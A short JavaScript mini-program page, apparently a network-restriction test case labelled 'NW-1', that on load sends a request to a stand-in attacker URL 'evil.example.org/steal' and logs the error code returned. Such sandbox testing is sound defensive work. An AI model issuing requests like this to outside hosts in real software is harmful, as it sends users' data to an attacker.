const L = (...a) => console.log(...a);
const E = (label, e) => console.log(label + ' ' + (e && e.errCode) + ' ' + (e && e.errMsg));
Page({ onLoad(query) { (async () => {
const req = (o) => new Promise((ok) => mp.request(Object.assign({}, o, { success: ok, fail: ok })));
const r = await req({ url: 'https://evil.example.org/steal?x=1' }); L('NW-1 ' + r.errCode + ' ' + r.errMsg)
})().catch((e) => console.log("case threw: " + e)) } })
